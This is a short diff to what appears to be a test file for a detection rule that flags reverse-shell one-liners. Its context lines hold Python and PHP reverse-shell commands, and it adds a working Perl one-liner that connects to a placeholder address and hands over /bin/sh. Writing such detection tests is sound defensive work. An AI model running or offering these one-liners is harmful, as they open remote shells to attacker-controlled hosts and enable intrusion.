@@ -25,3 +25,5 @@ python3 -c 'import socket,subprocess;s=socket.create_connection(("10.0.0.1",4242
 php -r '$sock=fsockopen("10.0.0.1",4242);$proc=proc_open("/bin/sh -i", array(0=>$sock, 1=>$sock, 2=>$sock),$pipes);'
 # ok: generic-reverse-shell-one-liner
 python3 -c 'import subprocess; subprocess.call(["/bin/sh", "-c", "make"])'
+# ruleid: generic-reverse-shell-one-liner
+perl -e 'use Socket; socket(my $s,PF_INET,SOCK_STREAM,6); connect($s,sockaddr_in(8081,inet_aton("192.0.2.1"))); open(STDIN, ">&", $s); open(STDOUT, ">&", $s); exec("/bin/sh -i");'
